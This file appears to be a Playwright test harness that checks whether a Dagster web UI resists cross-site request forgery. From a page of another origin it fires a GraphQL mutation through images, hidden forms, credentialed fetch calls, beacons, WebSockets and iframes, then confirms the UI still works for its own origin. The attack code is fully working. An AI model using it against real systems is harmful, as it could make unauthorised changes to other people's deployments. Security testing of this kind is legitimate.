// Tries from a page of another origin to change something in the Dagster UI; then uses the UI itself.
// node attack.cjs <chromium> <address of the UI> <page of another origin> <mutation>
const { chromium } = require('playwright-core');

async function attack(page, ui, mutation) {
  return page.evaluate(async ([address, query]) => {
    const found = { tried: [], socket_opened: false, framed: false };
    const pause = (milliseconds) => new Promise((done) => { setTimeout(done, milliseconds); });
    const asked = `${address}/graphql?query=${encodeURIComponent(query)}`;
    const image = new Image();
    image.src = asked;
    found.tried.push('image');
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = asked;
    form.target = 'inside';
    const inside = document.createElement('iframe');
    inside.name = 'inside';
    document.body.append(inside, form);
    form.submit();
    found.tried.push('form');
    const body = JSON.stringify({ query });
    for (const type of ['text/plain', 'text/plain; application/json', 'application/json']) {
      for (const mode of ['no-cors', 'cors']) {
        await fetch(`${address}/graphql`, {
          method: 'POST', mode, body, headers: { 'Content-Type': type }, credentials: 'include',
        }).catch(() => null);
      }
    }
    await fetch(asked, { mode: 'no-cors' }).catch(() => null);
    found.tried.push('fetch');
    navigator.sendBeacon(asked, new Blob([body], { type: 'text/plain' }));
    found.tried.push('beacon');
    const socket = new WebSocket(`${address.replace('http', 'ws')}/graphql`, 'graphql-ws');
    socket.onopen = () => { found.socket_opened = true; };
    found.tried.push('socket');
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
    found.tried.push('frame');
    await pause(1500);
    found.framed = frame.contentWindow.length > 0;
    return found;
  }, [ui, mutation]);
}

async function own(page, ui) {
  const refused = [];
  page.on('response', (answer) => { if (answer.status() >= 400) refused.push(answer.url()); });
  const socket = page.waitForEvent('websocket', { timeout: 20000 }).then(() => true, () => false);
  await page.goto(`${ui}/runs`);
  const listened = await socket;
  const asked = await page.evaluate(async () => {
    const answer = await fetch('/graphql', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: '{ version }' }),
    });
    return answer.status;
  });
  await page.waitForTimeout(500);
  return { title: (await page.title()).length > 0, asked, listened, refused };
}

(async () => {
  const [executablePath, ui, other, mutation] = process.argv.slice(2);
  const browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
  try {
    const page = await browser.newPage();
    await page.goto(other);
    const found = await attack(page, ui, mutation);
    found.own = await own(await browser.newPage(), ui);
    process.stdout.write(JSON.stringify(found));
  } finally {
    await browser.close();
  }
})();
